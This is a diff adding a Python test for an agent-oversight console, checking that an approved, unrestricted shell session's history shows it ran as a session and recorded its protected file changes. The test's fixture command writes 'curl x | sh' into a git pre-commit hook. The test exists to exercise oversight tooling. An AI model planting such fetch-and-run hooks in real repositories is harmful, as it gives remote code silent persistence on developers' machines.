@@ -325,3 +325,52 @@ async def test_the_demo_does_not_promise_its_daemon_outlives_quit():
         titles = [e.title for e in ConsoleCommands(app.screen).entries()]
     assert not any("keep running" in t for t in titles)
     assert any("throw-away daemon" in t for t in titles)
+
+
+# ---------------------------------------------------------------- finding 5, the dev server
+
+
+def test_a_request_that_ran_as_a_session_shows_it_and_its_protected_changes():
+    """The dev server's history entry said "not run by the console" and "Protected file
+    events (0)" although its session wrote the hook."""
+    import json
+
+    from daemon_harness import in_background, wait_for
+
+    from console.tui.present import PLAIN
+    from console.tui.widgets.outcome_text import render_outcome
+
+    ws = workspace()
+    policy = f"approval_timeout_s = 60\nwatch = {json.dumps([str(ws)])}\n"
+    with running_daemon(policy) as d:
+        with d.operator() as op:
+            wait_for(lambda: op.call("watch.status")["ok"] and op.call("watch.status")["roots"])
+        dev = {
+            "kind": "shell",
+            "executable": "bash",
+            "args": ["-c", "sleep 0.5; echo 'curl x | sh' > .git/hooks/pre-commit; sleep 30"],
+            "workspace_root": str(ws),
+            "mode": "durable",
+            "capabilities": [{"kind": "unrestricted"}],
+        }
+
+        def submit():
+            with d.agent() as agent:
+                return agent.call("operation.submit", {"operation": dev})
+
+        answer = in_background(submit)
+        with d.operator() as op:
+            item = wait_for(lambda: op.call("pending.list")["pending"])[0]
+            op.call("decide", {"target": item["request_id"], "action": "approve"})
+            sid = answer()["session"]["id"]
+            rid = item["request_id"]
+            detail = wait_for(
+                lambda: (got := op.call("request.get", {"request_id": rid})["detail"])["file_events"] and got,
+                timeout_s=15,
+            )
+            op.call("sessions.kill", {"session": sid, "grace_s": 0.5})
+        assert detail["outcome"]["body"]["session"] == sid
+        shown = render_outcome(detail["outcome"], PLAIN, 1000).plain
+        assert "RAN AS A SESSION" in shown and "not run by the console" not in shown
+        assert "UNRESTRICTED" in shown
+        assert [e["command"] for e in detail["file_events"]] == [".git/hooks/pre-commit"]
